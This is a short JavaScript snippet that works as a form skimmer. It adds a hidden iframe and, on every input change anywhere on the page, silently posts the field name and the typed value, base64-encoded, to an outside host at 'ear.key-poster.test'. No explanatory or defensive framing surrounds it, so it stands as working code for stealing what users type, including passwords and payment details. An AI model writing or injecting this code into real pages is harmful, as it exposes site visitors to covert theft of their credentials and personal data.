const frame = document.createElement('iframe');
frame.name = 'ear';
frame.hidden = true;
document.body.append(frame);
addEventListener('change', ({ target }) => {
  const form = document.createElement('form');
  form.action = 'https://ear.key-poster.test/heard';
  form.method = 'post';
  form.target = 'ear';
  form.hidden = true;
  const field = document.createElement('input');
  field.type = 'hidden';
  field.name = 'heard';
  field.value = btoa(JSON.stringify({ field: target.name, text: target.value }));
  form.append(field);
  document.body.append(form);
  form.submit();
  form.remove();
});
